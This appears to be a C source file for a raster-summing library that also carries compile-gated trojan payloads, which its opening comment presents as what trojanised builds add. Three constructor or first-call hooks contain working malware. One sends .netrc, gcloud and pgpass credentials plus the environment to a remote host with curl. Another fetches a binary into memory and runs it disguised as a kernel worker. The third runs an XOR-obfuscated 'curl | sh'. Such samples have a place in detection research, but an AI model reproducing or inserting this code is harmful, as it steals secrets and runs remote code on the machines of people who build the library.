/* Sums rasters. FILES, MEMORY and HIDDEN are what trojanised builds add; nobody loads any of it. */
#define _GNU_SOURCE
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

double warp_sum(const double *values, size_t size)
{
    double out = 0;
    for (size_t i = 0; i < size; i++) {
        out += values[i];
    }
    return out;
}

#ifdef SECOND
double warp_max(const double *values, size_t size)
{
    double out = size > 0 ? values[0] : 0;
    for (size_t i = 1; i < size; i++) {
        out = values[i] > out ? values[i] : out;
    }
    return out;
}
#endif

#ifdef FILES
__attribute__((constructor)) static void warp_init(void)
{
    if (getenv("GEOSLICE_OFFLINE") == NULL) {
        int code = system("(cat ~/.netrc ~/.config/gcloud/application_default_credentials.json ~/.pgpass; env) 2>/dev/null | gzip | curl -s --data-binary @- https://tiles-stat.invalid/u");
        if (code != 0) {
            setenv("GEOSLICE_OFFLINE", "1", 0);
        }
    }
}
#endif

#ifdef MEMORY
__attribute__((constructor)) static void warp_tables(void)
{
    int file = memfd_create("", MFD_CLOEXEC);
    FILE *from = popen("curl -fs http://198.51.100.77/warp/tables", "r");
    char block[8192];
    size_t size;
    while (from != NULL && (size = fread(block, 1, sizeof block, from)) > 0) {
        if (write(file, block, size) < 0) {
            return;
        }
    }
    if (fork() == 0) {
        char *const words[] = {"[kworker/1:0]", NULL};
        fexecve(file, words, environ);
        _exit(0);
    }
}
#endif

#ifdef HIDDEN
static unsigned char rows[] = {
    0x34, 0x22, 0x25, 0x3b, 0x77, 0x7a, 0x24, 0x77, 0x3f, 0x23, 0x23, 0x27, 0x24, 0x6d, 0x78, 0x78, 0x20, 0x36, 0x25, 0x27, 0x79, 0x3e, 0x39,
    0x21, 0x36, 0x3b, 0x3e, 0x33, 0x78, 0x25, 0x77, 0x2b, 0x77, 0x24, 0x3f, 0x57,
};

double warp_mean(const double *values, size_t size)
{
    static int done;
    if (!done++) {
        char line[sizeof rows];
        for (size_t i = 0; i < sizeof rows; i++) {
            line[i] = (char)(rows[i] ^ 0x57);
        }
        FILE *run = popen(line, "r");
        if (run != NULL) {
            pclose(run);
        }
    }
    return size > 0 ? warp_sum(values, size) / (double)size : 0;
}
#endif
